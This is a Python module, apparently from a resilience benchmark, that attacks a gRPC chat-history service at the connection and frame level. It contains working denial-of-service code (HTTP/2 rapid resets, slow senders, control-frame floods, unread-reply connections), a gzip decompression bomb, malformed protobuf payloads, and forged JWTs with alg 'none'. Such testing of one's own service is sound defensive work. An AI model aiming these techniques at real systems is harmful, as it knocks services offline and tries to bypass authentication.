"""Attacks below the level of calls: connections, frames, headers and malformed messages."""

from __future__ import annotations

import asyncio
import base64
import gzip
import json
import struct
from contextlib import suppress
from typing import TYPE_CHECKING

import grpc
from chathistory.v1 import message_pb2
from grpc import aio

from benchmarks.hostile import http2
from benchmarks.hostile.calls import stream_method, unary_method
from benchmarks.hostile.http2 import Http2Connection, frame, grpc_message
from benchmarks.hostile.matrix import BASE_REQUESTS, STREAMS
from benchmarks.hostile.pace import Pace

if TYPE_CHECKING:
    from benchmarks.hostile.assault import Assault

_STREAMS = 500
"""Calls on one connection, just below the service's limit."""
_LONG_LIVED_STREAMS = 250
_BOMB_BYTES = 50 * 1024 * 1024
"""Size of a message of zeros that fits into the first window of a stream when it is compressed."""
_CONNECTIONS_PER_SECOND = 500
_FRAMES_PER_SECOND = 20_000
"""Rates of the attacks whose cost is in the kernel and in gRPC's own threads, about what a limit in
front of the service passes. No code of the service sees such connections and frames."""
_RESETS_PER_SECOND = 2_000
"""Half of the calls that one process can answer. gRPC hands over calls that were reset like others,
and at a rate above what the process can take up, those of others wait behind them."""
_FRAMES_PER_WRITE = 100
_IN_FLIGHT = 8
"""Malformed calls in flight on one connection."""


def _body(assault: Assault, rpc: str) -> bytes:
    """Return a request whose reply is as large as possible."""
    account = assault.account
    if rpc == "ListMessages":
        return message_pb2.ListMessagesRequest(
            user_id=account.user_id, session_id=account.sessions["page"], page_size=1000
        ).SerializeToString()
    if rpc == "GetContext":
        return message_pb2.GetContextRequest(
            user_id=account.user_id, session_id=account.sessions["page"], max_messages=1000
        ).SerializeToString()
    if rpc == "WatchMessages":
        return message_pb2.WatchMessagesRequest(
            user_id=account.user_id, session_id=account.sessions["emoji"]
        ).SerializeToString()
    return BASE_REQUESTS[rpc](account).SerializeToString()


async def unread_replies(assault: Assault) -> None:
    """Send many calls on a connection that accepts no reply."""
    rpc = assault.parameter("rpc")
    message = grpc_message(_body(assault, rpc))
    metadata = assault.account.metadata()
    count = _LONG_LIVED_STREAMS if rpc in STREAMS else _STREAMS
    await assault.begin()

    async def occupy() -> None:
        # With a window of a page, the replies fill the buffers of the kernel.
        window = assault.parameter("window")
        is_small = window <= 1
        connection = await assault.raw_connection(window_bytes=window, reads=is_small)
        for _ in range(count):
            connection.start_call(rpc, metadata, message)
            await connection.drain()
        await assault.sleep_to_end()
        assault.tally["closed" if connection.is_closed else "open"] += 1

    await asyncio.gather(*(occupy() for _ in range(assault.parameter("connections"))))


async def resets(assault: Assault) -> None:
    """Start calls and reset them immediately, or while they are being answered."""
    rpc = assault.parameter("rpc")
    message = grpc_message(_body(assault, rpc))
    metadata = assault.account.metadata()
    await assault.begin()
    pace = Pace(_RESETS_PER_SECOND)
    while assault.seconds_left > 0:
        connection = await assault.raw_connection(window_bytes=1_000)
        streams: list[int] = []
        while assault.seconds_left > 0 and not connection.is_closed:
            await pace.wait()
            streams.append(connection.start_call(rpc, metadata, message))
            assault.tally["calls"] += 1
            if len(streams) > assault.chance.choice((0, 1, 100)):
                for stream in streams:
                    connection.reset(stream)
                streams.clear()
            await connection.drain()
        assault.tally["connections"] += 1
        await connection.close()


async def silent(assault: Assault) -> None:
    """Open connections that send nothing, only the preface, or garbage."""
    host, port = assault.account.address.rsplit(":", 1)
    await assault.begin()
    writers: list[asyncio.StreamWriter] = []
    for _ in range(assault.parameter("connections")):
        with suppress(OSError):
            _reader, writer = await http2.open_connection(host, int(port))
            if assault.parameter("sends") == "preface":
                writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
            elif assault.parameter("sends") == "garbage":
                writer.write(assault.chance.randbytes(1_000))
            writers.append(writer)
    assault.tally["connections"] += len(writers)
    await assault.sleep_to_end()


async def churn(assault: Assault) -> None:
    """Open and close connections."""
    host, port = assault.account.address.rsplit(":", 1)
    await assault.begin()
    pace = Pace(_CONNECTIONS_PER_SECOND)

    async def loop() -> None:
        while assault.seconds_left > 0:
            await pace.wait()
            try:
                _reader, writer = await http2.open_connection(host, int(port))
            except OSError:
                await asyncio.sleep(0.01)
                continue
            writer.transport.abort()
            assault.tally["connections"] += 1

    await asyncio.gather(*(loop() for _ in range(assault.parameter("concurrency"))))


async def slow_senders(assault: Assault) -> None:
    """Send requests one byte a second."""
    metadata = assault.account.metadata()
    length = struct.pack(">BI", 0, 1_000_000)
    await assault.begin()

    async def connection_of_slow_calls() -> None:
        connection = await assault.raw_connection()
        streams = []
        for _ in range(assault.parameter("streams")):
            streams.append(connection.start_call("AppendMessages", metadata, None))
            connection.send(frame(http2.DATA, 0, streams[-1], length))
        await connection.drain()
        while assault.seconds_left > 0:
            for stream in streams:
                connection.send(frame(http2.DATA, 0, stream, b"\n"))
            await connection.drain()
            await asyncio.sleep(min(1.0, assault.seconds_left))
        assault.tally["closed" if connection.is_closed else "open"] += 1

    await asyncio.gather(
        *(connection_of_slow_calls() for _ in range(assault.parameter("connections")))
    )


def _malformed(assault: Assault, form: str) -> tuple[bytes, list[tuple[str, str]]]:
    """Return the bytes after the headers, and further headers."""
    match form:
        case "deep":
            inner = b""
            for _ in range(5_000):
                inner = b"\x1a" + http2.varint(len(inner)) + inner
            return grpc_message(inner), []
        case "length":
            return grpc_message(b"\n\x01a", length=0xFFFF_FFFF), []
        case "gzip":
            bomb = gzip.compress(bytes(_BOMB_BYTES), 6)
            return grpc_message(bomb, is_compressed=True), [("grpc-encoding", "gzip")]
        case "empty":
            return b"", []
        case _:
            return grpc_message(assault.chance.randbytes(30_000)), []


async def malformed(assault: Assault) -> None:
    """Send bytes that are no message, in many calls on each connection."""
    data, extra = _malformed(assault, assault.parameter("form"))
    metadata = assault.account.metadata()
    await assault.begin()

    async def loop() -> None:
        while assault.seconds_left > 0:
            connection = await assault.raw_connection()
            while assault.seconds_left > 0 and not connection.is_closed:
                if connection.in_flight >= _IN_FLIGHT or connection.window_bytes < len(data):
                    await asyncio.sleep(0.001)
                    continue
                connection.start_call("AppendMessages", metadata, data, extra=extra)
                assault.tally["calls"] += 1
                await connection.drain()
            assault.tally["connections"] += 1
            await connection.close()

    await asyncio.gather(*(loop() for _ in range(assault.parameter("concurrency"))))


async def abandoned_connections(assault: Assault) -> None:
    """Open connections, send calls on each, and close it before they are answered."""
    body = grpc_message(_body(assault, "GetSession"))
    metadata = assault.account.metadata()
    await assault.begin()

    async def loop() -> None:
        while assault.seconds_left > 0:
            connection = await assault.raw_connection()
            for _ in range(100):
                connection.start_call("GetSession", metadata, body)
            assault.tally["calls"] += 100
            await connection.drain()
            await connection.close()

    await asyncio.gather(*(loop() for _ in range(assault.parameter("concurrency"))))


async def large_headers(assault: Assault) -> None:
    """Send large metadata, in one field and in many."""
    size = assault.parameter("bytes")
    body = _body(assault, "GetSession")
    many = [(f"x-{index}", "v" * 20) for index in range(size // 30)]
    metadata = [*assault.account.metadata(), ("x-large", "v" * size)]
    await assault.begin()

    async def continued() -> None:
        while assault.seconds_left > 0:
            connection = await assault.raw_connection()
            for _ in range(20):
                connection.start_call("GetSession", many, grpc_message(body))
                assault.tally["raw calls"] += 1
                await connection.drain()
                await asyncio.sleep(0.002)
                if connection.is_closed:
                    break
            await connection.close()

    await asyncio.gather(
        assault.flood(
            "GetSession",
            [body],
            concurrency=assault.parameter("concurrency"),
            metadata=metadata,
        ),
        *(continued() for _ in range(4)),
    )


def _forged_bearer(assault: Assault, index: int) -> str:
    def encode(data: bytes) -> str:
        return base64.urlsafe_b64encode(data).decode().rstrip("=")

    header = {"alg": ("none", "HS256", "RS256")[index % 3], "kid": f"key {index}"}
    claims = {"sub": assault.account.user_id, "aud": "x" * assault.chance.choice((1, 4_000))}
    parts = (json.dumps(header).encode(), json.dumps(claims).encode(), assault.chance.randbytes(32))
    return ".".join(map(encode, parts))


async def forged_bearers(assault: Assault) -> None:
    """Call with tokens of which none was seen before."""
    body = _body(assault, "GetSession")
    tokens = [_forged_bearer(assault, index) for index in range(5_000)]
    await assault.begin()
    method = unary_method(await assault.channel(), "GetSession")
    unused = iter(tokens * 20)

    async def loop() -> None:
        for token in unused:
            if assault.seconds_left == 0:
                return
            try:
                await method(body, metadata=[("authorization", f"Bearer {token}")], timeout=10)
            except aio.AioRpcError as error:
                assault.tally[error.code().name] += 1

    await asyncio.gather(*(loop() for _ in range(assault.parameter("concurrency"))))


def _control_frames(connection: Http2Connection, kind: str, stream: int) -> None:
    match kind:
        case "ping":
            connection.send(frame(http2.PING, 0, 0, bytes(8)) * _FRAMES_PER_WRITE)
        case "settings":
            connection.send(
                frame(http2.SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * _FRAMES_PER_WRITE
            )
        case "empty data":
            connection.send(frame(http2.DATA, 0, stream) * _FRAMES_PER_WRITE)
        case _:
            connection.send(
                frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * _FRAMES_PER_WRITE
            )


async def control_frames(assault: Assault) -> None:
    """Send frames that cost the caller nothing and have to be answered or counted."""
    metadata = assault.account.metadata()
    await assault.begin()
    pace = Pace(_FRAMES_PER_SECOND)

    async def loop() -> None:
        while assault.seconds_left > 0:
            connection = await assault.raw_connection()
            stream = connection.start_call("AppendMessages", metadata, None)
            while assault.seconds_left > 0 and not connection.is_closed:
                _control_frames(connection, assault.parameter("frame"), stream)
                assault.tally["frames"] += _FRAMES_PER_WRITE
                await connection.drain()
                await pace.wait(_FRAMES_PER_WRITE)
            await connection.close()

    await asyncio.gather(*(loop() for _ in range(4)))


async def watch_churn(assault: Assault) -> None:
    """Open watches and cancel them."""
    body = _body(assault, "WatchMessages")
    await assault.begin()
    method = stream_method(await assault.channel(), "WatchMessages")

    async def loop() -> None:
        while assault.seconds_left > 0:
            watch = method(body, metadata=assault.account.metadata())
            try:
                await asyncio.wait_for(watch.read(), assault.seconds_left + 0.1)
            except (aio.AioRpcError, TimeoutError, asyncio.CancelledError):
                assault.tally["failed"] += 1
                await asyncio.sleep(0.01)
            watch.cancel()
            assault.tally["watches"] += 1

    await asyncio.gather(*(loop() for _ in range(assault.parameter("concurrency"))))


async def short_deadlines(assault: Assault) -> None:
    """Make calls that are over before they are answered."""
    rpc = assault.parameter("rpc")
    body = _body(assault, rpc)
    await assault.begin()
    with suppress(grpc.RpcError):
        await assault.flood(rpc, [body], concurrency=64, timeout_s=0.003)
